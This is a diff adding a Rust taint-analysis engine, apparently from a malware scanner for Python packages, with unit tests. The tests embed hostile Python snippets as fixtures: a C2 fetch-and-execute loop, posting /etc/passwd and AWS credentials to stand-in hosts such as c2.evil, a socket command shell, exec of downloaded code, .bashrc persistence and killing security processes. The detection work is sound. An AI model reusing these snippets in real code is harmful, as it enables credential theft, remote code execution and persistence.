@@ -1,0 +1,1001 @@
+//! The intra-procedural taint engine.
+//!
+//! One linear pass per scope: statements are processed in program
+//! order, sharing a mutable environment of variable → taint bindings
+//! and variable → constant-string bindings. Function and class bodies
+//! are analyzed in a child environment seeded from the enclosing one
+//! (module-level constants and imports stay visible), with no
+//! cross-call propagation — the soundness boundary `docs/
+//! threat_model.md` documents. There is no fixpoint iteration, so cost
+//! is linear in statement count and output is deterministic.
+
+use std::collections::{BTreeMap, HashSet};
+use std::sync::Arc;
+
+use pysrc::{Arg, Expr, Module, Stmt};
+
+use crate::catalog::{is_startup_path, sink_of, source_of, SinkKind, SourceKind};
+use crate::fold;
+use crate::{FlowFinding, FlowStep, FoldedConst, TaintSummary};
+
+/// Bound on distinct taints carried per binding (dedup by source path
+/// keeps this small in practice; the cap defends against adversarial
+/// fan-in).
+const MAX_TAINTS: usize = 8;
+/// Bound on steps retained per chain: first steps (the source and early
+/// carries) plus the final sink step always survive.
+const MAX_STEPS: usize = 12;
+/// Bound on recorded folded constants per module.
+const MAX_FOLDED: usize = 64;
+/// Folded constants shorter than this are noise (`'po' + 'st'` matters
+/// for callee folding but not as a scan layer).
+const MIN_FOLDED_LEN: usize = 4;
+/// Notes longer than this are truncated — chains must stay cheap to
+/// store in the artifact cache.
+const MAX_NOTE_LEN: usize = 96;
+
+/// One taint mark: where the value came from and how it got here.
+#[derive(Debug, Clone)]
+struct Taint {
+    source: String,
+    kind: SourceKind,
+    steps: Vec<FlowStep>,
+}
+
+/// A lexical scope's environment. `BTreeMap` keeps iteration (and
+/// therefore every derived artifact) deterministic.
+#[derive(Debug, Clone, Default)]
+struct Scope {
+    /// Tainted bindings.
+    vars: BTreeMap<String, Vec<Taint>>,
+    /// Constant-string bindings (for folding through locals).
+    consts: BTreeMap<String, String>,
+    /// Import bindings: local name → canonical dotted path.
+    aliases: BTreeMap<String, String>,
+    /// Every import binding anywhere in the module, used as a fallback
+    /// when a name has no in-scope binding. Obfuscators rewrite call
+    /// spellings textually — `ctx.post(...)` can appear in a function
+    /// whose `import requests as ctx` lives in a sibling — and the
+    /// fallback keeps those aliases resolvable.
+    globals: Arc<BTreeMap<String, String>>,
+}
+
+impl Scope {
+    /// Resolves an import alias: the in-scope binding wins; the
+    /// module-wide table answers only for names with no local variable
+    /// or constant binding (never hijack a local).
+    fn alias(&self, name: &str) -> Option<&String> {
+        self.aliases.get(name).or_else(|| {
+            if self.vars.contains_key(name) || self.consts.contains_key(name) {
+                None
+            } else {
+                self.globals.get(name)
+            }
+        })
+    }
+}
+
+/// The value of an evaluated expression.
+#[derive(Debug, Clone, Default)]
+struct Value {
+    taints: Vec<Taint>,
+    /// Constant string value, when the expression folds.
+    cval: Option<String>,
+    /// True when a real folding operation produced `cval` (as opposed
+    /// to a literal or a plain lookup).
+    folded: bool,
+}
+
+impl Value {
+    fn constant(s: String) -> Value {
+        Value {
+            cval: Some(s),
+            ..Value::default()
+        }
+    }
+}
+
+struct Analyzer {
+    flows: Vec<FlowFinding>,
+    flow_keys: HashSet<(String, String)>,
+    folded: Vec<FoldedConst>,
+}
+
+/// Runs the taint analysis over a parsed module.
+pub fn analyze(module: &Module) -> TaintSummary {
+    let mut a = Analyzer {
+        flows: Vec::new(),
+        flow_keys: HashSet::new(),
+        folded: Vec::new(),
+    };
+    let mut globals = BTreeMap::new();
+    collect_global_aliases(&module.body, &mut globals);
+    let mut scope = Scope {
+        globals: Arc::new(globals),
+        ..Scope::default()
+    };
+    a.walk(&module.body, &mut scope);
+    a.flows.sort();
+    a.flows.dedup();
+    a.folded.sort();
+    a.folded.dedup();
+    TaintSummary {
+        flows: a.flows,
+        folded: a.folded,
+    }
+}
+
+impl Analyzer {
+    fn walk(&mut self, body: &[Stmt], scope: &mut Scope) {
+        for stmt in body {
+            self.stmt(stmt, scope);
+        }
+    }
+
+    fn stmt(&mut self, stmt: &Stmt, scope: &mut Scope) {
+        match stmt {
+            Stmt::Import { modules, .. } => {
+                for m in modules {
+                    let target = match &m.alias {
+                        Some(_) => m.path.clone(),
+                        // `import a.b` binds `a`, naming module `a`.
+                        None => m.binding().to_owned(),
+                    };
+                    scope.aliases.insert(m.binding().to_owned(), target);
+                }
+            }
+            Stmt::FromImport { module, names, .. } => {
+                for n in names {
+                    if n.path == "*" {
+                        continue;
+                    }
+                    scope
+                        .aliases
+                        .insert(n.binding().to_owned(), format!("{module}.{}", n.path));
+                }
+            }
+            Stmt::Assign {
+                targets,
+                value,
+                line,
+            } => {
+                let v = self.eval(value, scope, *line);
+                self.record_fold(*line, &v);
+                for target in targets {
+                    let base = target_base(target);
+                    if base.is_empty() {
+                        continue;
+                    }
+                    match &v.cval {
+                        Some(c) => {
+                            scope.consts.insert(base.clone(), c.clone());
+                        }
+                        None => {
+                            scope.consts.remove(&base);
+                        }
+                    }
+                    if v.taints.is_empty() {
+                        scope.vars.remove(&base);
+                    } else {
+                        let note = clip(&format!("{base} = {}", expr_summary(value)));
+                        let stepped: Vec<Taint> = v
+                            .taints
+                            .iter()
+                            .map(|t| {
+                                let mut t = t.clone();
+                                push_step(&mut t.steps, *line, note.clone());
+                                t
+                            })
+                            .collect();
+                        scope.vars.insert(base, stepped);
+                    }
+                }
+            }
+            Stmt::Expr { value, line } => {
+                let v = self.eval(value, scope, *line);
+                self.record_fold(*line, &v);
+            }
+            Stmt::Return { value, line } => {
+                // Not a sink: returning tainted data to an unknown
+                // caller is the legit half of the corpus (version
+                // strings, API lookups). Evaluate for sinks *inside*
+                // the returned expression only.
+                if let Some(value) = value {
+                    let v = self.eval(value, scope, *line);
+                    self.record_fold(*line, &v);
+                }
+            }
+            Stmt::Block {
+                keyword,
+                header,
+                body,
+                line,
+            } => {
+                self.block_header(keyword, header, scope, *line);
+                self.walk(body, scope);
+            }
+            Stmt::FunctionDef { params, body, .. }
+            | Stmt::ClassDef {
+                bases: params,
+                body,
+                ..
+            } => {
+                // Child scope: module bindings visible, parameters
+                // shadow (and are untainted — intra-procedural).
+                let mut child = scope.clone();
+                for p in params {
+                    child.vars.remove(p);
+                    child.consts.remove(p);
+                }
+                self.walk(body, &mut child);
+            }
+            Stmt::Other { text, line } => {
+                // Unparsed statements still get the identifier scan so
+                // taint is not silently laundered through them... but
+                // only to *detect* sink-looking text is too fragile;
+                // instead, kill constness/taint of any identifier
+                // assigned in the text to stay conservative.
+                let _ = line;
+                if let Some(eq) = text.find('=') {
+                    let base = target_base(text[..eq].trim());
+                    if !base.is_empty() {
+                        scope.consts.remove(&base);
+                    }
+                }
+            }
+        }
+    }
+
+    /// `with X as v:` / `for v in X:` headers bind names; conditions
+    /// can contain source/sink calls. The header text is re-parsed as
+    /// an expression and evaluated in the block's scope.
+    fn block_header(&mut self, keyword: &str, header: &str, scope: &mut Scope, line: usize) {
+        let rest = header
+            .strip_prefix(keyword)
+            .unwrap_or(header)
+            .trim()
+            .to_owned();
+        if rest.is_empty() {
+            return;
+        }
+        match keyword {
+            "with" => {
+                // `with EXPR as NAME[, EXPR as NAME]*:` — split items on
+                // top-level commas is overkill for the corpus; handle
+                // the common single item, last ` as ` wins.
+                let (expr_text, binding) = match rest.rfind(" as ") {
+                    Some(idx) => (rest[..idx].to_owned(), Some(rest[idx + 4..].to_owned())),
+                    None => (rest, None),
+                };
+                let v = self.eval_text(&expr_text, scope, line);
+                self.record_fold(line, &v);
+                if let Some(binding) = binding {
+                    self.bind_header_targets(&binding, &v, scope, line);
+                }
+            }
+            "for" => {
+                if let Some(idx) = rest.find(" in ") {
+                    let targets = rest[..idx].to_owned();
+                    let v = self.eval_text(&rest[idx + 4..], scope, line);
+                    self.record_fold(line, &v);
+                    self.bind_header_targets(&targets, &v, scope, line);
+                }
+            }
+            _ => {
+                // `if`/`while`/`elif` conditions can call sinks.
+                let v = self.eval_text(&rest, scope, line);
+                self.record_fold(line, &v);
+            }
+        }
+    }
+
+    fn bind_header_targets(&mut self, targets: &str, v: &Value, scope: &mut Scope, line: usize) {
+        for name in ident_words(targets) {
+            if v.taints.is_empty() {
+                scope.vars.remove(&name);
+            } else {
+                let note = clip(&format!("{name} bound in block header"));
+                let stepped: Vec<Taint> = v
+                    .taints
+                    .iter()
+                    .map(|t| {
+                        let mut t = t.clone();
+                        push_step(&mut t.steps, line, note.clone());
+                        t
+                    })
+                    .collect();
+                scope.vars.insert(name, stepped);
+            }
+        }
+    }
+
+    /// Re-parses reconstructed header text and evaluates the leading
+    /// expression. Parse failures degrade to the identifier scan.
+    fn eval_text(&mut self, text: &str, scope: &mut Scope, line: usize) -> Value {
+        let module = pysrc::parse_module(text);
+        match module.body.first() {
+            Some(Stmt::Expr { value, .. }) => self.eval(value, scope, line),
+            _ => self.scan_idents(text, scope),
+        }
+    }
+
+    fn eval(&mut self, expr: &Expr, scope: &mut Scope, line: usize) -> Value {
+        match expr {
+            Expr::Name(n) => {
+                let mut v = Value::default();
+                if let Some(ts) = scope.vars.get(n) {
+                    v.taints = ts.clone();
+                }
+                if let Some(c) = scope.consts.get(n) {
+                    v.cval = Some(c.clone());
+                }
+                v
+            }
+            Expr::Str(s) => Value::constant(s.clone()),
+            Expr::Num(n) => Value::constant(n.clone()),
+            Expr::Attribute { value, .. } => {
+                // Taint flows through attribute access (`resp.text`),
+                // and a dotted path can itself be a source
+                // (`os.environ`). A constant receiver is preserved so
+                // method-call chains (`fromhex(..).decode(..)`) keep
+                // folding at the enclosing call.
+                let mut v = self.eval(value, scope, line);
+                let path = callee_path(expr, scope);
+                if let Some(kind) = source_of(&path) {
+                    add_taint(
+                        &mut v.taints,
+                        Taint {
+                            source: path.clone(),
+                            kind,
+                            steps: vec![FlowStep {
+                                line: line as u32,
+                                note: clip(&format!("read {path}")),
+                            }],
+                        },
+                    );
+                }
+                v
+            }
+            Expr::BinOp { left, op, right } => {
+                let l = self.eval(left, scope, line);
+                let r = self.eval(right, scope, line);
+                let mut v = Value {
+                    taints: l.taints,
+                    ..Value::default()
+                };
+                for t in r.taints {
+                    add_taint(&mut v.taints, t);
+                }
+                match (op.as_str(), &l.cval, &r.cval) {
+                    ("+", Some(a), Some(b)) => {
+                        v.cval = Some(format!("{a}{b}"));
+                        v.folded = true;
+                    }
+                    ("%", Some(a), Some(b)) => {
+                        if let Some(folded) = fold::fold_percent(a, b) {
+                            v.cval = Some(folded);
+                            v.folded = true;
+                        }
+                    }
+                    _ => {}
+                }
+                v
+            }
+            Expr::Call { func, args } => self.eval_call(func, args, scope, line),
+            Expr::Other(text) => self.scan_idents(text, scope),
+        }
+    }
+
+    fn eval_call(&mut self, func: &Expr, args: &[Arg], scope: &mut Scope, line: usize) -> Value {
+        let path = callee_path_with_consts(func, scope, self, line);
+
+        // Receiver taints (method call on a tainted object) — also
+        // evaluates any nested call in the callee position exactly once.
+        let recv = self.eval(func, scope, line);
+
+        // Arguments.
+        let mut arg_vals: Vec<Value> = Vec::with_capacity(args.len());
+        for a in args {
+            let v = self.eval(&a.value, scope, line);
+            self.record_fold(line, &v);
+            arg_vals.push(v);
+        }
+
+        let mut out = Value {
+            taints: recv.taints.clone(),
+            ..Value::default()
+        };
+        for v in &arg_vals {
+            for t in &v.taints {
+                add_taint(&mut out.taints, t.clone());
+            }
+        }
+
+        // Constant folding of decode/transform chains.
+        self.fold_call(&path, func, &arg_vals, &mut out, &recv);
+
+        // Sink check: tainted data reaching a cataloged sink.
+        if let Some(kind) = sink_of(&path) {
+            for v in &arg_vals {
+                for t in &v.taints {
+                    self.emit_flow(t, &path, kind, line);
+                }
+            }
+        }
+        // Receiver-based sink: write through a startup-path handle.
+        if path.ends_with(".write") {
+            for t in &recv.taints {
+                if t.kind == SourceKind::StartupOpen {
+                    self.emit_flow(t, &path, SinkKind::StartupWrite, line);
+                }
+            }
+        }
+
+        // Source check: the call's result is tainted.
+        if let Some(kind) = source_of(&path) {
+            add_taint(
+                &mut out.taints,
+                Taint {
+                    source: path.clone(),
+                    kind,
+                    steps: vec![FlowStep {
+                        line: line as u32,
+                        note: clip(&format!("call {path}(...)")),
+                    }],
+                },
+            );
+        }
+        // `open` on a startup/config path yields a persistence handle.
+        if path == "open" || path == "io.open" {
+            if let Some(target) = arg_vals.first().and_then(|v| v.cval.as_deref()) {
+                if is_startup_path(target) {
+                    add_taint(
+                        &mut out.taints,
+                        Taint {
+                            source: format!("open[{target}]"),
+                            kind: SourceKind::StartupOpen,
+                            steps: vec![FlowStep {
+                                line: line as u32,
+                                note: clip(&format!("open startup path {target}")),
+                            }],
+                        },
+                    );
+                }
+            }
+        }
+        out
+    }
+
+    /// Folds constant-producing calls: decode chains, const-preserving
+    /// string methods, `chr`, passthroughs.
+    fn fold_call(
+        &mut self,
+        path: &str,
+        func: &Expr,
+        arg_vals: &[Value],
+        out: &mut Value,
+        recv: &Value,
+    ) {
+        let arg0 = arg_vals.first().and_then(|v| v.cval.as_deref());
+        match path {
+            "base64.b64decode" => {
+                if let Some(c) = arg0.and_then(fold::fold_b64decode) {
+                    out.cval = Some(c);
+                    out.folded = true;
+                }
+            }
+            "bytes.fromhex" => {
+                if let Some(c) = arg0.and_then(fold::fold_fromhex) {
+                    out.cval = Some(c);
+                    out.folded = true;
+                }
+            }
+            "chr" => {
+                if let Some(c) = arg0.and_then(fold::fold_chr) {
+                    out.cval = Some(c);
+                    out.folded = true;
+                }
+            }
+            "str" | "os.path.expanduser" | "os.fsdecode" => {
+                if let Some(c) = arg0 {
+                    out.cval = Some(c.to_owned());
+                    out.folded = arg_vals[0].folded;
+                }
+            }
+            _ => {
+                // `const.decode('utf-8')`, `.strip()`, ... — method on
+                // a constant receiver preserves the constant.
+                if let Expr::Attribute { attr, .. } = func {
+                    if fold::const_preserving_method(attr) {
+                        if let Some(c) = &recv.cval {
+                            out.cval = Some(c.clone());
+                            out.folded = recv.folded;
+                        }
+                    }
+                }
+            }
+        }
+    }
+
+    fn emit_flow(&mut self, taint: &Taint, sink: &str, kind: SinkKind, line: usize) {
+        let key = (taint.source.clone(), sink.to_owned());
+        if !self.flow_keys.insert(key) {
+            return;
+        }
+        let mut steps = taint.steps.clone();
+        push_step(&mut steps, line, clip(&format!("reaches sink {sink}(...)")));
+        self.flows.push(FlowFinding {
+            label: format!("flow:{}->{}", taint.kind.label(), kind.label()),
+            source: taint.source.clone(),
+            sink: sink.to_owned(),
+            steps,
+        });
+    }
+
+    /// Identifier scan over reconstructed text (`Expr::Other`): dict/
+    /// list literals, subscripts and tuples degrade to text, but taint
+    /// must still flow through them (`requests.post(url, json={'email':
+    /// email})`).
+    fn scan_idents(&mut self, text: &str, scope: &Scope) -> Value {
+        let mut v = Value::default();
+        for word in ident_words(text) {
+            if let Some(ts) = scope.vars.get(&word) {
+                for t in ts {
+                    add_taint(&mut v.taints, t.clone());
+                }
+            }
+        }
+        v
+    }
+
+    fn record_fold(&mut self, line: usize, v: &Value) {
+        if !v.folded || self.folded.len() >= MAX_FOLDED {
+            return;
+        }
+        if let Some(c) = &v.cval {
+            if c.len() >= MIN_FOLDED_LEN {
+                self.folded.push(FoldedConst {
+                    line: line as u32,
+                    text: c.clone(),
+                });
+            }
+        }
+    }
+}
+
+/// Canonical dotted path of a callee, resolving import aliases,
+/// `getattr(obj, 'name')` and `__import__('m')` indirection. The
+/// `_with_consts` variant lets `getattr`'s name argument fold first
+/// (`getattr(os, 'sys' + 'tem')`).
+fn callee_path(expr: &Expr, scope: &Scope) -> String {
+    match expr {
+        Expr::Name(n) => scope.alias(n).cloned().unwrap_or_else(|| n.clone()),
+        Expr::Attribute { value, attr } => {
+            let base = callee_path(value, scope);
+            if base.is_empty() {
+                attr.clone()
+            } else {
+                format!("{base}.{attr}")
+            }
+        }
+        Expr::Call { func, .. } => callee_path(func, scope),
+        Expr::Other(_) => {
+            let p = expr.func_path();
+            if p.is_empty() {
+                p
+            } else {
+                resolve_first_segment(&p, scope)
+            }
+        }
+        _ => String::new(),
+    }
+}
+
+fn callee_path_with_consts(
+    func: &Expr,
+    scope: &mut Scope,
+    a: &mut Analyzer,
+    line: usize,
+) -> String {
+    if let Expr::Call { func: inner, args } = func {
+        let head = callee_path_with_consts(inner, scope, a, line);
+        if head == "getattr" && args.len() >= 2 {
+            let obj = callee_path_with_consts(&args[0].value, scope, a, line);
+            let name = a.eval(&args[1].value, scope, line).cval;
+            if let Some(name) = name {
+                return if obj.is_empty() {
+                    name
+                } else {
+                    format!("{obj}.{name}")
+                };
+            }
+            return String::new();
+        }
+        if head == "__import__" {
+            if let Some(first) = args.first() {
+                if let Some(m) = a.eval(&first.value, scope, line).cval {
+                    return m;
+                }
+            }
+            return String::new();
+        }
+        return head;
+    }
+    if let Expr::Attribute { value, attr } = func {
+        let base = callee_path_with_consts(value, scope, a, line);
+        return if base.is_empty() {
+            attr.clone()
+        } else {
+            format!("{base}.{attr}")
+        };
+    }
+    callee_path(func, scope)
+}
+
+fn resolve_first_segment(path: &str, scope: &Scope) -> String {
+    match path.split_once('.') {
+        Some((head, rest)) => match scope.alias(head) {
+            Some(full) => format!("{full}.{rest}"),
+            None => path.to_owned(),
+        },
+        None => scope
+            .alias(path)
+            .cloned()
+            .unwrap_or_else(|| path.to_owned()),
+    }
+}
+
+/// Collects every import binding in the module, recursing into every
+/// nested body, for [`Scope::globals`].
+fn collect_global_aliases(body: &[Stmt], out: &mut BTreeMap<String, String>) {
+    for stmt in body {
+        match stmt {
+            Stmt::Import { modules, .. } => {
+                for m in modules {
+                    let target = match &m.alias {
+                        Some(_) => m.path.clone(),
+                        None => m.binding().to_owned(),
+                    };
+                    out.entry(m.binding().to_owned()).or_insert(target);
+                }
+            }
+            Stmt::FromImport { module, names, .. } => {
+                for n in names {
+                    if n.path == "*" {
+                        continue;
+                    }
+                    out.entry(n.binding().to_owned())
+                        .or_insert_with(|| format!("{module}.{}", n.path));
+                }
+            }
+            Stmt::FunctionDef { body, .. }
+            | Stmt::ClassDef { body, .. }
+            | Stmt::Block { body, .. } => collect_global_aliases(body, out),
+            _ => {}
+        }
+    }
+}
+
+fn add_taint(taints: &mut Vec<Taint>, t: Taint) {
+    if taints.len() >= MAX_TAINTS {
+        return;
+    }
+    if taints.iter().any(|e| e.source == t.source) {
+        return;
+    }
+    taints.push(t);
+}
+
+fn push_step(steps: &mut Vec<FlowStep>, line: usize, note: String) {
+    if steps.len() >= MAX_STEPS {
+        // Keep the head of the chain; the sink step replaces the tail.
+        steps.truncate(MAX_STEPS - 1);
+    }
+    steps.push(FlowStep {
+        line: line as u32,
+        note,
+    });
+}
+
+/// The base identifier of an assignment target: `loot[t]` → `loot`,
+/// `obj.attr` → `obj`.
+fn target_base(target: &str) -> String {
+    target
+        .chars()
+        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+        .collect()
+}
+
+/// Identifier-shaped words in reconstructed text.
+fn ident_words(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut in_str = false;
+    let mut quote = '\'';
+    for c in text.chars() {
+        if in_str {
+            if c == quote {
+                in_str = false;
+            }
+            continue;
+        }
+        if c == '\'' || c == '"' {
+            in_str = true;
+            quote = c;
+            continue;
+        }
+        if c.is_ascii_alphanumeric() || c == '_' {
+            cur.push(c);
+        } else if !cur.is_empty() {
+            if !cur.chars().next().is_some_and(|c| c.is_ascii_digit()) {
+                out.push(std::mem::take(&mut cur));
+            } else {
+                cur.clear();
+            }
+        }
+    }
+    if !cur.is_empty() && !cur.chars().next().is_some_and(|c| c.is_ascii_digit()) {
+        out.push(cur);
+    }
+    out
+}
+
+fn expr_summary(expr: &Expr) -> String {
+    clip(&expr.to_text())
+}
+
+fn clip(s: &str) -> String {
+    if s.len() <= MAX_NOTE_LEN {
+        return s.to_owned();
+    }
+    let mut cut = MAX_NOTE_LEN;
+    while !s.is_char_boundary(cut) {
+        cut -= 1;
+    }
+    format!("{}…", &s[..cut])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn flows(src: &str) -> Vec<FlowFinding> {
+        analyze(&pysrc::parse_module(src)).flows
+    }
+
+    fn labels(src: &str) -> Vec<String> {
+        flows(src).into_iter().map(|f| f.label).collect()
+    }
+
+    #[test]
+    fn c2_fetch_to_system() {
+        let src = "def f():\n    import requests, os\n    while True:\n        try:\n            cmd = requests.get('https://c2.example/tasks', timeout=5).text\n            if cmd:\n                os.system(cmd)\n        except Exception:\n            pass\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].source, "requests.get");
+        assert_eq!(fs[0].sink, "os.system");
+        assert_eq!(fs[0].label, "flow:net-fetch->proc-exec");
+        // The chain names the carrier assignment and both endpoints.
+        assert!(fs[0].steps.len() >= 3, "{:?}", fs[0].steps);
+        assert!(fs[0].steps.iter().any(|s| s.note.contains("cmd =")));
+    }
+
+    #[test]
+    fn alias_resolution_through_import_as() {
+        let src =
+            "import os as o\nimport requests as r\ncmd = r.get('http://x').text\no.system(cmd)\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].source, "requests.get");
+        assert_eq!(fs[0].sink, "os.system");
+    }
+
+    #[test]
+    fn from_import_alias_resolution() {
+        let src = "from subprocess import run as r\nfrom os import environ\nr(environ.get('PATH'), shell=True)\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].source, "os.environ.get");
+        assert_eq!(fs[0].sink, "subprocess.run");
+    }
+
+    #[test]
+    fn sibling_function_alias_resolves_via_module_wide_fallback() {
+        // Textual obfuscators rewrite `requests.post` to the alias
+        // bound by an `import requests as ctx` that lives in a
+        // *different* function. The module-wide fallback keeps the
+        // rewritten spelling resolvable.
+        let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    import os, requests\n    data = open('/etc/passwd').read()\n    ctx.post('http://c2.evil', json=data)\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].source, "open");
+        assert_eq!(fs[0].sink, "requests.post");
+    }
+
+    #[test]
+    fn local_binding_shadows_the_global_alias_fallback() {
+        // `ctx` is a plain local constant in `b`; the sibling import
+        // alias must not hijack it into `requests.post`.
+        let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    ctx = 'label'\n    data = open('/etc/passwd').read()\n    ctx.post(data)\n";
+        let fs = flows(src);
+        assert!(fs.is_empty(), "{fs:?}");
+    }
+
+    #[test]
+    fn getattr_indirection_folds_to_dotted_path() {
+        let src = "import os, requests\ncmd = getattr(requests, 'get')('http://x').text\ngetattr(os, 'system')(cmd)\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].source, "requests.get");
+        assert_eq!(fs[0].sink, "os.system");
+    }
+
+    #[test]
+    fn dunder_import_with_encoded_name_folds() {
+        // The string arm's own output shape: module and attribute both
+        // reconstructed at runtime.
+        let src = "data = input()\ngetattr(__import__('o' + 's'), 'sys' + 'tem')(data)\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].source, "input");
+        assert_eq!(fs[0].sink, "os.system");
+        assert_eq!(fs[0].label, "flow:stdin-read->proc-exec");
+    }
+
+    #[test]
+    fn socket_recv_to_subprocess_and_send_back() {
+        let src = "def serve():\n    import socket, subprocess\n    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    while True:\n        conn, _addr = srv.accept()\n        data = conn.recv(1024).decode()\n        out = subprocess.run(data, shell=True, capture_output=True)\n        conn.send(out.stdout + out.stderr)\n";
+        let ls = labels(src);
+        assert!(
+            ls.contains(&"flow:socket-recv->proc-exec".to_owned()),
+            "{ls:?}"
+        );
+        assert!(
+            ls.contains(&"flow:socket-recv->socket-send".to_owned()),
+            "{ls:?}"
+        );
+    }
+
+    #[test]
+    fn env_dict_to_post() {
+        let src = "def f():\n    import os, requests\n    env = dict(os.environ)\n    requests.post('https://x/collect', json=env)\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].label, "flow:env-read->net-send");
+    }
+
+    #[test]
+    fn file_read_through_subscript_target_to_post() {
+        let src = "def f():\n    import os, requests\n    loot = {}\n    for t in ['~/.aws/credentials']:\n        path = os.path.expanduser(t)\n        loot[t] = open(path).read()\n    requests.post('https://h/x', json=loot)\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].label, "flow:file-read->net-send");
+        assert_eq!(fs[0].source, "open");
+    }
+
+    #[test]
+    fn taint_through_dict_literal_argument() {
+        let src = "import subprocess, requests\nemail = subprocess.check_output(['git', 'config', 'user.email']).decode()\nrequests.post('https://h/x', json={'email': email})\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].label, "flow:proc-read->net-send");
+    }
+
+    #[test]
+    fn popen_lines_to_kill() {
+        let src = "def f():\n    import os, signal\n    for line in os.popen('ps ax').readlines():\n        if 'defender' in line:\n            pid = int(line.split()[0])\n            os.kill(pid, signal.SIGKILL)\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].label, "flow:proc-read->proc-control");
+    }
+
+    #[test]
+    fn download_to_exec_compile() {
+        let src = "def inject():\n    import requests\n    src = requests.get('https://h/i.py').text\n    exec(compile(src, 'inject', 'exec'))\n";
+        let fs = flows(src);
+        let sinks: Vec<&str> = fs.iter().map(|f| f.sink.as_str()).collect();
+        assert!(sinks.contains(&"compile"), "{fs:?}");
+        assert!(sinks.contains(&"exec"), "{fs:?}");
+    }
+
+    #[test]
+    fn startup_path_write_flow() {
+        let src = "def f():\n    import os\n    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n        rc.write('python3 /tmp/.x.py &\\n')\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].label, "flow:startup-open->startup-write");
+        assert!(fs[0].source.contains(".bashrc"), "{fs:?}");
+    }
+
+    #[test]
+    fn etc_hosts_write_without_expanduser() {
+        let src = "def f():\n    with open('/etc/hosts', 'a') as hosts:\n        hosts.write('0.0.0.0 x\\n')\n";
+        assert_eq!(labels(src), vec!["flow:startup-open->startup-write"]);
+    }
+
+    #[test]
+    fn config_extraction_direct_nesting() {
+        let src = "import requests\nrequests.post('https://h/x', data=open('/etc/passwd', 'rb').read())\n";
+        let fs = flows(src);
+        assert_eq!(fs.len(), 1, "{fs:?}");
+        assert_eq!(fs[0].label, "flow:file-read->net-send");
+    }
+
+    #[test]
+    fn benign_patterns_produce_no_flows() {
+        // The legit corpus shapes: constant subprocess args, tainted
+        // data that is only returned, fetches whose args are clean.
+        for src in [
+            "import subprocess\nsubprocess.run(['git', 'describe', '--tags'], capture_output=True)\n",
+            "def v():\n    with open('VERSION.txt') as fh:\n        return fh.read().strip()\n",
+            "import os\ndef home():\n    return os.environ.get('HOME', '')\n",
+            "import requests\ndef latest(repo):\n    resp = requests.get('https://api.github.com/repos/%s/releases/latest' % repo, timeout=10)\n    resp.raise_for_status()\n    return resp.json()['tag_name']\n",
+            "import base64\ndef uri(path):\n    with open(path, 'rb') as fh:\n        payload = base64.b64encode(fh.read()).decode('ascii')\n    return 'data:application/octet-stream;base64,' + payload\n",
+        ] {
+            assert!(flows(src).is_empty(), "unexpected flow in {src}");
+        }
+    }
+
+    #[test]
+    fn folding_recovers_split_and_encoded_constants() {
+        let b64 = digest::base64::encode(b"https://evil.example/x");
+        let src = format!(
+            "u = ('https://' + 'evil.example' + '/x')\nv = __import__('base64').b64decode('{b64}').decode('utf-8')\nw = bytes.fromhex('6576696c').decode('utf-8')\n"
+        );
+        let summary = analyze(&pysrc::parse_module(&src));
+        let texts: Vec<&str> = summary.folded.iter().map(|f| f.text.as_str()).collect();
+        assert!(texts.contains(&"https://evil.example/x"), "{texts:?}");
+        assert!(texts.contains(&"evil"), "{texts:?}");
+        assert_eq!(
+            texts
+                .iter()
+                .filter(|t| **t == "https://evil.example/x")
+                .count(),
+            2,
+            "concat and b64 both recover the URL: {texts:?}"
+        );
+    }
+
+    #[test]
+    fn percent_format_folds() {
+        let src = "host = 'c2.evil'\nurl = 'https://%s/x' % host\n";
+        let summary = analyze(&pysrc::parse_module(src));
+        assert!(
+            summary.folded.iter().any(|f| f.text == "https://c2.evil/x"),
+            "{:?}",
+            summary.folded
+        );
+    }
+
+    #[test]
+    fn rename_invariance_of_labels() {
+        let orig = "import os, requests\ncmd = requests.get('https://c2/t').text\nos.system(cmd)\n";
+        let renamed =
+            "import os, requests\nqz_1 = requests.get('https://c2/t').text\nos.system(qz_1)\n";
+        assert_eq!(labels(orig), labels(renamed));
+    }
+
+    #[test]
+    fn summary_is_sorted_and_deduped() {
+        let src =
+            "import os, requests\nc = requests.get('http://x').text\nos.system(c)\nos.system(c)\n";
+        let s = analyze(&pysrc::parse_module(src));
+        assert_eq!(s.flows.len(), 1);
+        let mut sorted = s.flows.clone();
+        sorted.sort();
+        assert_eq!(sorted, s.flows);
+    }
+
+    #[test]
+    fn deep_or_hostile_input_is_bounded() {
+        // A pathological chain must not blow up steps or flows.
+        let mut src = String::from("import os\nx0 = input()\n");
+        for i in 1..40 {
+            src.push_str(&format!("x{i} = x{} + 'a'\n", i - 1));
+        }
+        src.push_str("os.system(x39)\n");
+        let fs = flows(&src);
+        assert_eq!(fs.len(), 1);
+        assert!(fs[0].steps.len() <= MAX_STEPS);
+    }
+}
